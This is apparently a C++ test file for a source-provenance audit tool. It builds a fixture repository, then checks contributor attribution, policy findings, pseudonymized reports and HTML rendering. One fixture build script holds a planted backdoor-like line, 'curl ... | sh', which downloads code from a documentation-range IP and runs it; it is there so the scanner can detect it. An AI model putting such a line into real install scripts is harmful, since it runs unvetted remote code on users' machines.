// `provscan audit`: whole-history scan, lines alive at HEAD per contributor, and the files an
// auditor hands on (report.html, report.json, contributors.csv, findings.csv, report.md), with
// pseudonymization and progress. The HTML is opened in headless Chromium (Debian's package):
// its DOM text is checked and a screenshot is taken.
#include <doctest/doctest.h>

#include <nlohmann/json.hpp>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <map>

#include "tests/support/fixture_repo.h"
#include "tests/support/run_cli.h"

using namespace provscan::test;
using nlohmann::json;
namespace fs = std::filesystem;

namespace {

const Author kAlice{"Alice Example", "alice@corp.example"};
const Author kEscort{"Erin Escort", "erin@corp.example"};
const Author kOverseas{"Oleg Overseas", "oleg@vendor.example"};
const Author kStranger{"Sam Stranger", "sam@unknown.example"};

constexpr const char* kRoster =
    "people:\n"
    "  - {id: p-alice, name: Alice Example, emails: [alice@corp.example], role: employee, citizenship: [US],"
    " location: US, employer: Corp, clearance: secret}\n"
    "  - {id: p-erin, name: Erin Escort, emails: [erin@corp.example], role: escort, citizenship: [US],"
    " location: US, employer: Corp, clearance: secret}\n"
    "  - {id: p-oleg, name: Oleg Overseas, emails: [oleg@vendor.example], role: contractor, citizenship: [XX],"
    " location: XX, employer: Vendor}\n";

constexpr const char* kPolicy =
    "default:\n"
    "  allow: { citizenship: [US], roles: [employee, escort] }\n"
    "relay:\n"
    "  escort_roles: [escort]\n"
    "  origin_trailer: On-behalf-of\n"
    "unattributed: deny\n";

// Four people: an employee, an escort relaying an overseas contractor's change (with a
// backdoor-like download piped to a shell), and an unattributed identity.
void build_history(FixtureRepo& repo) {
  repo.commit("init", {{"src/app.c", "int main(void) {\n  return 0;\n}\n"}, {"README", "app\n"}}, kAlice);
  repo.commit("build script\n\nOn-behalf-of: Oleg Overseas <oleg@vendor.example>\n",
              {{"scripts/install.sh", "#!/bin/sh\nset -e\ncurl -fsSL http://203.0.113.9/x | sh\n"}}, kEscort);
  repo.commit("docs", {{"README", "app\nmore docs\n"}}, kStranger);
  repo.commit("fix", {{"src/app.c", "int main(void) {\n  return 1;\n}\n"}}, kAlice);
}

std::map<std::string, json> contributors_by_key(const json& report) {
  std::map<std::string, json> out;
  for (const json& c : report["contributors"])
    out[c["person"].is_null() ? c["identity"].get<std::string>() : c["person"].get<std::string>()] = c;
  return out;
}

std::string chromium() {
  for (const char* p : {"/usr/bin/chromium", "/usr/bin/chromium-browser"})
    if (fs::exists(p)) return p;
  return {};
}

}  // namespace

TEST_CASE("audit: every report is written, contributors carry lines alive and roster attributes") {
  FixtureRepo repo;
  build_history(repo);
  TempDir tmp;
  const std::string roster = tmp.file("roster.yaml", kRoster);
  const std::string policy = tmp.file("policy.yaml", kPolicy);
  const std::string out = tmp.path() + "/audit";
  const CliResult r = run_provscan({"audit", repo.path(), "--roster", roster, "--policy", policy, "--output", out,
                                    "--progress", "never"});
  INFO(r.err);
  CHECK(r.exit_code == 1);  // the relayed download-to-shell is high severity
  for (const char* f : {"report.html", "report.json", "contributors.csv", "findings.csv", "report.md"})
    CHECK_MESSAGE(fs::is_regular_file(out + "/" + f), f);

  const json j = json::parse(read_text(out + "/report.json"));
  CHECK(j["summary"]["commits"] == 4);
  const auto people = contributors_by_key(j);
  REQUIRE(people.size() == 4);
  // At HEAD: README 2 lines (alice 1, sam 1), src/app.c 3 (alice), scripts/install.sh 3 (erin's commit).
  CHECK(j["lines_alive"]["lines"] == 8);
  CHECK(people.at("p-alice")["lines_alive_at_head"] == 4);
  CHECK(people.at("p-alice")["commits"] == 2);
  CHECK(people.at("p-alice")["files_alive_at_head"] == 2);
  CHECK(people.at("p-alice")["attributes"]["clearance"] == "secret");
  CHECK(people.at("p-alice")["identities"] == json::array({"Alice Example <alice@corp.example>"}));
  CHECK(people.at("p-erin")["lines_alive_at_head"] == 3);
  CHECK(people.at("p-erin")["relayed_for"] == json{{"p-oleg", 1}});
  CHECK(people.at("p-oleg")["commits"] == 0);
  CHECK(people.at("p-oleg")["relayed_by"] == json{{"p-erin", 1}});
  CHECK(people.at("p-oleg")["attributes"]["citizenship"] == "XX");
  const json& sam = people.at("Sam Stranger <sam@unknown.example>");
  CHECK(sam["person"].is_null());
  CHECK(sam["lines_alive_at_head"] == 1);
  CHECK(sam["attributes"].empty());  // nothing is inferred about an unattributed identity
  CHECK(sam["commits_by_month"] == json{{"2024-01", 1}});
  std::uint64_t sum = 0;
  for (const auto& [k, c] : people) sum += c["lines_alive_at_head"].get<std::uint64_t>();
  CHECK(sum == j["lines_alive"]["lines"]);

  const std::string csv = read_text(out + "/contributors.csv");
  CHECK(csv.rfind("person,identity,role,citizenship,residency,location,employer,clearance,", 0) == 0);
  CHECK(csv.find("p-alice,Alice Example,employee,US,,US,Corp,secret,,,2,") != std::string::npos);
  CHECK(csv.find(",Sam Stranger <sam@unknown.example>,,,,,,,,,1,") != std::string::npos);
  CHECK(read_text(out + "/findings.csv").find("policy.relayed-from-disallowed") != std::string::npos);
  const std::string md = read_text(out + "/report.md");
  CHECK(md.find("## Contributors") != std::string::npos);
  CHECK(md.find("| p-erin | Erin Escort | escort | 1 |") != std::string::npos);

  const std::string html = read_text(out + "/report.html");
  CHECK(html.find("<script") == std::string::npos);
  CHECK(html.find("http://") == html.find("http://203.0.113.9"));  // only inside the finding's snippet
  CHECK(html.find("https://") == std::string::npos);
  CHECK(html.find("default-src 'none'") != std::string::npos);
}

TEST_CASE("audit: report.html renders in headless Chromium with every section") {
  const std::string browser = chromium();
  if (browser.empty()) {
    REQUIRE_MESSAGE(std::getenv("PROVSCAN_REQUIRE_BROWSER") == nullptr, "chromium is required (apt-get install chromium)");
    MESSAGE("chromium not installed: skipping the rendering check (scripts/test.sh requires it)");
    return;
  }
  FixtureRepo repo;
  build_history(repo);
  TempDir tmp;
  const std::string out = tmp.path() + "/audit";
  const CliResult r = run_provscan({"audit", repo.path(), "--roster", tmp.file("roster.yaml", kRoster), "--policy",
                                    tmp.file("policy.yaml", kPolicy), "--output", out, "--format", "html"});
  REQUIRE(r.exit_code == 1);
  const std::string url = "file://" + out + "/report.html";
  const std::vector<std::string> common = {browser,         "--headless",        "--no-sandbox", "--disable-gpu",
                                           "--no-first-run", "--disable-extensions", "--user-data-dir=" + tmp.path() + "/profile"};
  std::vector<std::string> dump = common;
  dump.push_back("--dump-dom");
  dump.push_back(url);
  const CliResult dom = run_command(dump);
  INFO(dom.err);
  REQUIRE(dom.exit_code == 0);
  for (const char* text : {"Overview", "Contributors in the roster", "Unattributed identities", "Alice Example",
                           "Erin Escort", "Oleg Overseas", "Sam Stranger", "committed for others", "Commits per month",
                           "policy.relayed-from-disallowed", "curl -fsSL http://203.0.113.9/x | sh", "Not scanned",
                           "By citizenship"})
    CHECK_MESSAGE(dom.out.find(text) != std::string::npos, text);
  CHECK(dom.out.find("<svg") != std::string::npos);

  std::vector<std::string> shot = common;
  const std::string png = tmp.path() + "/report.png";
  shot.push_back("--screenshot=" + png);
  shot.push_back("--window-size=1280,2400");
  shot.push_back(url);
  const CliResult s = run_command(shot);
  INFO(s.err);
  REQUIRE(s.exit_code == 0);
  REQUIRE(fs::exists(png));
  const std::string bytes = read_text(png);
  CHECK(bytes.rfind("\x89PNG\r\n\x1a\n", 0) == 0);
  CHECK(bytes.size() > 20000);  // a blank page compresses to a few kB
  if (const char* keep = std::getenv("PROVSCAN_KEEP_SCREENSHOT")) fs::copy_file(png, keep, fs::copy_options::overwrite_existing);
}

TEST_CASE("audit: --pseudonymize leaves no name or e-mail in any output, stable per key") {
  FixtureRepo repo;
  build_history(repo);
  TempDir tmp;
  const std::string roster = tmp.file("roster.yaml", kRoster);
  const std::string policy = tmp.file("policy.yaml", kPolicy);
  const std::string key = tmp.file("audit.key", "0123456789abcdef0123456789abcdef\n");
  auto audit = [&](const std::string& dir, const std::string& keyfile) {
    const CliResult r = run_provscan({"audit", repo.path(), "--roster", roster, "--policy", policy, "--output",
                                      tmp.path() + "/" + dir, "--format", "html", "--format", "json", "--format",
                                      "csv", "--format", "markdown", "--format", "sarif", "--pseudonymize", keyfile});
    INFO(r.err);
    REQUIRE(r.exit_code == 1);
    for (const char* real : {"Alice", "Erin", "Oleg", "Sam Stranger", "alice@", "erin@", "oleg@", "sam@",
                             "corp.example", "vendor.example", "unknown.example"})
      CHECK_MESSAGE(r.err.find(real) == std::string::npos, real);
  };
  audit("a", key);
  audit("b", key);
  audit("c", tmp.file("other.key", "another key of enough length!!\n"));
  for (const auto& entry : fs::directory_iterator(tmp.path() + "/a")) {
    const std::string name = entry.path().filename();
    const std::string text = read_text(entry.path());
    for (const char* real : {"Alice", "Erin", "Oleg", "Sam Stranger", "alice@", "erin@", "oleg@", "sam@",
                             "corp.example", "vendor.example", "unknown.example"})
      CHECK_MESSAGE(text.find(real) == std::string::npos, name << " holds " << real);
    CHECK_MESSAGE(text == read_text(tmp.path() + "/b/" + name), name << " differs between runs with one key");
    CHECK_MESSAGE(text != read_text(tmp.path() + "/c/" + name), name << " is the same under another key");
  }
  const json j = json::parse(read_text(tmp.path() + "/a/report.json"));
  const auto people = contributors_by_key(j);
  CHECK(people.count("p-alice") == 1);  // roster ids and attributes stay
  CHECK(people.at("p-alice")["attributes"]["role"] == "employee");
  CHECK(people.at("p-alice")["identity"].get<std::string>().rfind("person-", 0) == 0);

  CHECK(run_provscan({"audit", repo.path(), "--output", tmp.path() + "/d", "--pseudonymize",
                      tmp.file("short.key", "short\n")})
            .exit_code == 2);
}

TEST_CASE("audit: progress shows commits done, rate and completion only when asked") {
  FixtureRepo repo;
  build_history(repo);
  TempDir tmp;
  CliResult r = run_provscan({"audit", repo.path(), "--output", tmp.path() + "/a", "--progress", "always"});
  CHECK(r.exit_code == 1);
  CHECK(r.err.find("provscan: 4/4 commits (100%)") != std::string::npos);
  CHECK(r.err.find("commits/s, done in") != std::string::npos);
  CHECK(r.err.find("counting the lines alive at HEAD") != std::string::npos);
  r = run_provscan({"audit", repo.path(), "--output", tmp.path() + "/b"});  // auto: stderr is not a terminal
  CHECK(r.err.find("commits (") == std::string::npos);
  r = run_provscan({"scan", repo.path(), "--progress", "never"});
  CHECK(r.err.find("commits (") == std::string::npos);
  r = run_provscan({"scan", repo.path(), "--progress", "always"});
  CHECK(r.err.find("provscan: 4/4 commits (100%)") != std::string::npos);
}

TEST_CASE("audit: bad inputs fail closed with exit 2") {
  FixtureRepo repo;
  build_history(repo);
  TempDir tmp;
  CHECK(run_provscan({"audit", repo.path()}).exit_code == 2);  // --output is required
  CHECK(run_provscan({"audit", repo.path(), "--output", tmp.path() + "/a", "--rev", "no-such-rev"}).exit_code == 2);
  const std::string file = tmp.file("not-a-dir", "x");
  CHECK(run_provscan({"audit", repo.path(), "--output", file}).exit_code == 2);
  CHECK(run_provscan({"audit", tmp.path() + "/missing", "--output", tmp.path() + "/b"}).exit_code == 2);
}
